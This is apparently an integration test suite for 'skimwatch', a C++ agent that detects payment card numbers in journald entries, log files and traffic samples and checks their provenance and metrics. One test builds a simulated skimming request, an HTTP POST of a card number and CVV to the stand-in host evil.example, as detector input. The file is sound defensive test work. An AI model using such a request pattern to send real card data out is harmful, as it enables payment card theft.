// Journals and samples, through the real agent to the store.

#include <signal.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>
#include <memory>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/integration/support/cards.h"
#include "tests/integration/support/deployment.h"
#include "tests/integration/support/journald.h"

namespace skimwatch::integration {
namespace {

using ::testing::Contains;
using ::testing::HasSubstr;
using ::testing::SizeIs;

constexpr char kJournalRemote[] = "/lib/systemd/systemd-journal-remote";

class Intake : public ::testing::Test {
 protected:
  void SetUp() override { ASSERT_NO_FATAL_FAILURE(deployment_.StartCollector()); }

  static const v1::Finding& FindingOf(size_t card, const std::map<size_t, StoredCard>& cards) {
    return cards.at(card).findings.at(0).finding();
  }
  std::string Site(const std::string& name) const { return deployment_.site_folder() + "/" + name; }

  Deployment deployment_;
};

TEST_F(Intake, FollowsJournalFilesOverARestart) {
  if (access(kJournalRemote, X_OK) != 0) GTEST_SKIP() << "needs systemd-journal-remote";
  const std::string journal = Site("journal");
  std::filesystem::create_directory(journal);
  const auto log = [&](size_t card) {
    const std::string entry = absl::StrCat(
        "__REALTIME_TIMESTAMP=", 1'700'000'000'000'000 + card * 1'000'000,
        "\n__MONOTONIC_TIMESTAMP=", 1'000'000 + card * 1'000'000,
        "\n_BOOT_ID=0123456789abcdef0123456789abcdef\n_SYSTEMD_UNIT=shop.service\n_PID=42\n",
        "_EXE=/usr/bin/php\n_COMM=php\nPRIORITY=6\nMESSAGE={\"card\":{\"number\":\"",
        CardNumber(card), "\"}}\n\n");
    const testing::Result result = testing::RunProgram(
        {.command = {kJournalRemote, "-o", journal + "/system.journal", "-"}}, entry);
    ASSERT_EQ(result.code, 0) << result.err;
  };
  ASSERT_NO_FATAL_FAILURE(log(0));
  deployment_.agent_yaml =
      absl::StrCat("sources: { journals: [{ directory: ", journal, ", from: start }] }\n");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  ASSERT_NO_FATAL_FAILURE(log(1));
  ASSERT_TRUE(deployment_.WaitForCards(2));
  EXPECT_EQ(deployment_.StopAgent(SIGTERM), 0);
  ASSERT_NO_FATAL_FAILURE(log(2));
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  ASSERT_TRUE(deployment_.WaitForCards(3));
  deployment_.ExpectEachCard(3, 1);
  const std::map<size_t, StoredCard> cards = deployment_.Cards(3);
  const v1::Finding& finding = FindingOf(2, cards);
  EXPECT_EQ(finding.destination(), "journal:shop.service");
  EXPECT_EQ(finding.rule(), "card.at_rest");
  EXPECT_THAT(finding.card_number().evidence(), Contains("field_name:card"));
  const v1::Provenance& provenance = finding.provenance();
  EXPECT_EQ(provenance.source(), v1::SOURCE_KIND_JOURNAL);
  EXPECT_EQ(provenance.part(), "field");
  EXPECT_EQ(provenance.path_template(), "MESSAGE");
  EXPECT_EQ(provenance.process().pid(), 42u);
  EXPECT_EQ(provenance.process().executable(), "/usr/bin/php");
  EXPECT_EQ(provenance.process().command(), "php");
  EXPECT_EQ(
      deployment_.AgentMetric(absl::StrCat("skimwatch_journal_up{directory=\"", journal, "\"}")),
      1);
  deployment_.ExpectNoNumberKept(3);
}

TEST_F(Intake, FollowsARealJournald) {
  Journald journald;
  std::filesystem::create_directory(Site("journal"));
  ASSERT_NO_FATAL_FAILURE(journald.Start(Site("journal")));
  if (!journald.is_running()) GTEST_SKIP() << "needs root and systemd-journald";
  journald.Send("MESSAGE=before the agent began\n");
  deployment_.agent_yaml = absl::StrCat("sources: { journals: [{ directory: ", journald.directory(),
                                        ", from: start }] }\n");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  constexpr size_t kCards = 30;
  for (size_t card = 0; card < kCards; ++card) {
    if (card % 10 == 9) journald.Rotate();
    journald.Send(
        absl::StrCat("SYSLOG_IDENTIFIER=shop\nMESSAGE=paid\nCARD_NUMBER=", CardNumber(card), "\n"));
  }
  ASSERT_TRUE(deployment_.WaitForCards(kCards));
  deployment_.ExpectEachCard(kCards, 1);
  const std::map<size_t, StoredCard> cards = deployment_.Cards(kCards);
  const v1::Finding& finding = FindingOf(7, cards);
  EXPECT_THAT(finding.card_number().evidence(), Contains("field_name:cardnumber"));
  EXPECT_EQ(finding.provenance().path_template(), "CARD_NUMBER");
  // What the kernel told journald of the sender.
  EXPECT_EQ(finding.provenance().process().pid(), static_cast<uint32_t>(getpid()));
  EXPECT_EQ(finding.provenance().process().executable(),
            std::filesystem::read_symlink("/proc/self/exe").string());
  for (const char* reason : {"deleted", "unreadable", "partly_unreadable", "not_permitted"}) {
    EXPECT_EQ(
        deployment_.AgentMetric(absl::StrCat("skimwatch_journal_entries_lost_total{directory=\"",
                                             journald.directory(), "\",reason=\"", reason, "\"}")),
        0)
        << reason;
  }
  deployment_.ExpectNoNumberKept(kCards);
}

TEST_F(Intake, TheExampleOfTheDocumentationWorks) {
  const std::string page = testing::ReadFile(SKIMWATCH_SOURCE_DIR "/docs/samples.md");
  constexpr std::string_view kFence = "```python\n";
  const size_t begin = page.find(kFence);
  ASSERT_NE(begin, std::string::npos);
  const size_t code = begin + kFence.size();
  const std::string socket = deployment_.root() + "/samples.sock";
  const std::string program = absl::StrReplaceAll(page.substr(code, page.find("```", code) - code),
                                                  {{"/run/skimwatch-agent/samples.sock", socket}});
  ASSERT_THAT(program, HasSubstr(socket));
  deployment_.agent_yaml = absl::StrCat("sources: { sample_sockets: [{ path: ", socket, " }] }\n");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  const testing::Result result =
      testing::RunProgram({.command = {"/usr/bin/python3", "-c", program}});
  ASSERT_EQ(result.code, 0) << result.err;
  ASSERT_TRUE(testing::WaitUntil([&] { return !deployment_.Findings().empty(); }));
  const std::vector<v1::StoredFinding> findings = deployment_.Findings();
  ASSERT_THAT(findings, SizeIs(1));
  const v1::Finding& finding = findings[0].finding();
  EXPECT_EQ(finding.provenance().source(), v1::SOURCE_KIND_SAMPLE);
  EXPECT_EQ(finding.provenance().part(), "line");
  EXPECT_EQ(finding.destination(), "samples:" + socket);
  EXPECT_EQ(finding.card_number().card().masked(), "411111******1111");
}

// As the example of the documentation encodes it, of any length.
std::string Varint(uint64_t value) {
  std::string bytes;
  for (; value >= 0x80; value >>= 7) bytes += static_cast<char>(value | 0x80);
  return bytes + static_cast<char>(value);
}
std::string Field(int number, const std::string& value) {
  return Varint(static_cast<uint64_t>(number) << 3 | 2) + Varint(value.size()) + value;
}
std::string Field(int number, uint64_t value) {
  return Varint(static_cast<uint64_t>(number) << 3) + Varint(value);
}
std::string Sample(const std::string& fields) { return Varint(fields.size()) + fields; }

TEST_F(Intake, ReadsFoldersOfSamples) {
  const std::string folder = Site("samples");
  std::filesystem::create_directory(folder);
  deployment_.agent_yaml = absl::StrCat("sources: { sample_folders: [{ path: ", folder, " }] }\n");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgentAndWait());
  // A request whose body comes in two samples, with the number over both, half of them taken.
  const std::string body = absl::StrCat("cardNumber=", CardNumber(0), "&cvv=123");
  const std::string head = absl::StrCat("POST /collect HTTP/1.1\r\nHost: evil.example\r\n",
                                        "Content-Length: ", body.size(), "\r\n\r\n");
  const std::string half("\x29\0\0\0\0\0\0\xe0\x3f", 9);  // sampling_probability: 0.5
  const std::string process = Field(12, Field(1, 42) + Field(2, std::string("/usr/bin/php")));
  const std::string flow =
      Sample(Field(1, head + body.substr(0, 18)) + Field(3, 1) + Field(6, 9) + half + process) +
      Sample(Field(1, body.substr(18)) + Field(3, 1) + Field(6, 9) + Field(7, 1));
  const auto deliver = [&](const std::string& name, const std::string& bytes) {
    std::ofstream(folder + "/" + name + ".tmp", std::ios::binary) << bytes;
    std::filesystem::rename(folder + "/" + name + ".tmp", folder + "/" + name);
  };
  deliver("flow.samples", flow);
  deliver("broken.samples", Sample(Field(1, "card number " + CardNumber(1)) + Field(2, 3)) +
                                "\xff\xff\xff\xff\xff\xff");
  ASSERT_TRUE(deployment_.WaitForCards(2));
  ASSERT_TRUE(testing::WaitUntil([&] {
    return !std::filesystem::exists(folder + "/flow.samples") &&
           std::filesystem::exists(folder + "/failed/broken.samples");
  }));
  deployment_.ExpectEachCard(2, 1);
  const std::map<size_t, StoredCard> cards = deployment_.Cards(2);
  const v1::Finding& finding = FindingOf(0, cards);
  EXPECT_EQ(finding.provenance().protocol(), v1::PROTOCOL_HTTP1);
  EXPECT_EQ(finding.provenance().host(), "evil.example");
  EXPECT_EQ(finding.provenance().path_template(), "/collect");
  EXPECT_EQ(finding.provenance().part(), "request_body");
  EXPECT_EQ(finding.provenance().process().pid(), 42u);
  EXPECT_EQ(finding.sampling_probability(), 0.5);
  EXPECT_EQ(FindingOf(1, cards).destination(), "samples:" + folder);
  const std::string labels = absl::StrCat("{path=\"", folder, "\",source=\"sample_folders\"");
  EXPECT_EQ(deployment_.AgentMetric(
                absl::StrCat("skimwatch_sample_files_total", labels, ",result=\"read\"}")),
            1);
  EXPECT_EQ(deployment_.AgentMetric(
                absl::StrCat("skimwatch_sample_files_total", labels, ",result=\"failed\"}")),
            1);
  EXPECT_THAT(deployment_.agent().Log(), HasSubstr("broken.samples"));
  // To the byte.
  EXPECT_EQ(SumOf(deployment_.AgentGet("/metrics"), "skimwatch_source_bytes_total"),
            head.size() + body.size() + 28 + 6);
  deployment_.ExpectNoNumberKept(2);
}

TEST_F(Intake, GoesOnWithoutAJournal) {
  const std::string log = Site("app.log");
  std::ofstream(log).flush();
  deployment_.agent_yaml =
      absl::StrCat("sources: { log_files: [{ paths: [", log,
                   "] }], journals: [{ directory: ", Site("missing"), " }] }\n");
  ASSERT_NO_FATAL_FAILURE(deployment_.StartAgent());
  // It is not ready, as it says below, but has the key of fingerprints.
  ASSERT_TRUE(
      testing::WaitUntil([&] { return deployment_.AgentMetric("skimwatch_policy_version") > 0; }));
  std::ofstream(log, std::ios::app) << "card number " << CardNumber(0) << "\n";
  ASSERT_TRUE(deployment_.WaitForCards(1));
  EXPECT_THAT(deployment_.AgentGet("/readyz"), HasSubstr("no journal files in"));
  EXPECT_EQ(deployment_.AgentMetric(
                absl::StrCat("skimwatch_journal_up{directory=\"", Site("missing"), "\"}")),
            0);
}

}  // namespace
}  // namespace skimwatch::integration
